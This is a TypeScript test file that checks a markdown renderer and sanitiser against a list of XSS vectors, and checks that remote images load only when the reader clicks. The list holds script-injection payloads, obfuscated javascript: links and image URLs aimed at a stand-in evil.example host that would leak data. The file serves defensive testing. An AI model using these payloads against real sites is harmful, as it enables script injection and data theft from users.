import { expect, test } from "vitest";
import { loadImagesOnDemand } from "../cell/images.ts";
import { renderSettled } from "../markdown/render.ts";
import { sanitize } from "../markdown/sanitize.ts";
import { MarkdownStream } from "../markdown/stream.ts";

/** Ideas of the public cheat-sheets, as an answer would write them. */
const VECTORS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](&#1;javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](blob:https://example.com/1)",
  "[x](//evil.example/x)",
  "[x](/api/shutdown)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "![x](https://evil.example/?q=secret)",
  "![x](//evil.example/x.png)",
  '![x](https://evil.example/"onerror="alert(1))',
  '[x](https://example.com "onmouseover=alert(1)")',
  '[x](https://example.com/"onmouseover="alert(1))',
  "[x]: javascript:alert(1)\n\n[x]",
  "```html\n<script>alert(1)</script>\n```",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "```x onclick=alert(1)\ncode\n```",
  "$<img src=x onerror=alert(1)>$",
  "$$\n<img src=x onerror=alert(1)>\n$$",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
  "- [ ] <img src=x onerror=alert(1)>",
  "`<img src=x onerror=alert(1)>`",
  "&lt;img src=x onerror=alert(1)&gt;",
  '<a id="body" name="cookie">clobber</a>',
];

function expectHarmless(root: ParentNode): void {
  for (const element of root.querySelectorAll("*")) {
    expect(
      "a blockquote br button code del em h1 h2 h3 h4 h5 h6 hr input li ol p pre s span strong table tbody td th thead tr ul".split(
        " ",
      ),
    ).toContain(element.tagName.toLowerCase());
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^(on|style$|src$|srcset$|id$|name$|form)/);
      if (name === "href") expect(value).toMatch(/^(https?:\/\/|mailto:)/i);
    }
    if (element.tagName === "A" && element.hasAttribute("href")) {
      expect([element.getAttribute("rel"), element.getAttribute("target")]).toEqual([
        "noopener noreferrer",
        "_blank",
      ]);
    }
  }
}

test.each(VECTORS)("nothing of this can run or load: %j", (vector) => {
  expectHarmless(renderSettled(vector));
  const root = document.createElement("div");
  const stream = new MarkdownStream(root);
  for (const piece of `Some text ${vector}\n\n${vector}\n`.match(/[\s\S]{1,3}/g) ?? []) {
    stream.append(piece);
    stream.flush();
    expectHarmless(root);
  }
});

test.each(VECTORS)("the sanitiser alone would stop it, should the parser fail: %j", (vector) => {
  expectHarmless(sanitize(vector));
});

test("a remote image is fetched when the reader asks for it, and not before", () => {
  const root = document.createElement("div");
  root.append(renderSettled("![A cat](https://images.example.com/cat.png)"));
  loadImagesOnDemand(root, new AbortController().signal);
  expect(root.querySelector("img")).toBeNull();
  const button = root.querySelector("button");
  expect(button?.textContent).toBe("A cat (Load image from images.example.com)");
  button?.click();
  const image = root.querySelector("img");
  expect([image?.src, image?.alt, image?.referrerPolicy]).toEqual([
    "https://images.example.com/cat.png",
    "A cat",
    "no-referrer",
  ]);
});
